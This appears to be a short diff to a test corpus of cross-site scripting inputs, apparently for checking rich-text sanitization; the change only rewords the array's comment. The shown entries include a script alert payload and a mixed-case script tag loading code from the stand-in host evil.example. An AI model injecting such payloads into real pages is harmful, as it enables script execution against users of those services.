@@ -1,4 +1,4 @@
-/** What has made scripts run in other people's rich texts. */
+/** Inputs that made scripts run in the rich texts of other services. */
 export const CORPUS = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
